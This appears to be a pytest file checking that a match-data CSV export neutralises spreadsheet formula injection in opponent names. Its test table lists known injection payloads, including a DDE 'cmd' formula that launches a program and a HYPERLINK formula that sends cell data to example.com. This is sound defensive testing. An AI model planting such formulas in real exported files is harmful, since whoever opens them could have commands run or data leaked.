"""Cells: what a spreadsheet could compute is made text, everything else comes back as it was."""

import csv
import io
import re

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import fields, replace

from events.match import evolve
from events.match_view import MatchView, view
from query_api.export_rows import COLUMNS, VALUES, harmless, head, rows
from tests.examples import EXAMPLES, UPLOADED

NASTY = {
    **{
        name: "'" + name
        for name in (
            "=1+1", "+1", "-1", "@SUM(A1)", " =1", '"=1', "'=1", '"" =1',
            "\uff1d1", "\uff0b1", "\uff0d1", "\uff201", "\u00a0=1", "\ufeff=1", "\u200b=1",
            "\u201c=1", "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t", "\r\n", "+", "=",
            '=HYPERLINK("http://example.com/?"&A1)',
        )
    },
    "\t=1": "'\t'=1",
    "\r=1": "'\r'=1",
    "\n=1": "'\n'=1",
    '","=1': "\",'\"=1",
    "x;=1+1": "x;'=1+1",
    'x";" @A1': "x\";'\" @A1",
    "-a,-b|-c": "'-a,'-b|'-c",
}  # fmt: skip
HARMLESS = [
    "Yassine",
    "O'Neill",
    "a=1",
    "FC 1-0",
    "42",
    "x,y",
    'x"y"',
    "ياسين",
    "a;b",
    "a, b",
    "é",
    "1e5",
]


def read_back(*opponents: str) -> list[dict[str, str]]:
    match = evolve(None, UPLOADED)
    shown = [view(replace(match, opponent_name=name)) for name in opponents]
    text = head() + rows(msgspec.json.encode(each).decode() for each in shown)
    return [*csv.DictReader(io.StringIO(text.decode("utf-8-sig"), newline=""), strict=True)]


@pytest.mark.parametrize(("name", "cell"), NASTY.items())
def test_no_cell_begins_like_a_formula(name: str, cell: str) -> None:
    (row,) = read_back(name)
    assert row["opponent_name"] == cell
    assert row.keys() == {*COLUMNS}


@pytest.mark.parametrize("name", HARMLESS)
def test_what_is_harmless_stays_as_it_is(name: str) -> None:
    assert read_back(name)[0]["opponent_name"] == name


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"]), min_size=1), max_size=5))
def test_every_name_comes_back_with_apostrophes_at_most(names: list[str]) -> None:
    read = [row["opponent_name"] for row in read_back(*names)]
    assert len(read) == len(names)
    for name, cell in zip(names, read, strict=True):
        assert cell.replace("'", "") == name.replace("'", "")
        for each in re.split("[,;]", cell):
            assert not each.strip(' \t\r\n"').startswith(("=", "+", "-", "@"))


def test_numbers_are_numbers_and_times_have_their_zone() -> None:
    match = evolve(evolve(None, UPLOADED), EXAMPLES["match.stats_confirmed.v1"])
    text = rows([msgspec.json.encode(view(match)).decode()]).decode()
    row = dict(zip(COLUMNS, text.removesuffix("\r\n").split(","), strict=True))
    assert (row["score_user"], row["score_opponent"], row["result"]) == ("4", "2", "win")
    assert (row["stats.possession.user"], row["stats.possession.opponent"]) == ("42", "58")
    assert (row["penalties_user"], row["stats.saves.user"]) == ("", "")
    assert row["played_at"] == "2026-01-21T12:00:00Z"


def test_every_plain_value_of_a_match_has_its_column() -> None:
    nested = {"stats", "extracted_data", "failure", "confirmation"}
    addresses = {"screenshot", "thumbnail"}
    assert {field.name for field in fields(MatchView)} == {*VALUES} | nested | addresses


def test_the_file_says_how_it_is_encoded() -> None:
    assert head().startswith(b"\xef\xbb\xbfid,")


def test_a_name_is_not_marked_for_a_sign_within() -> None:
    assert harmless("Rabat - Fes") == "Rabat - Fes"
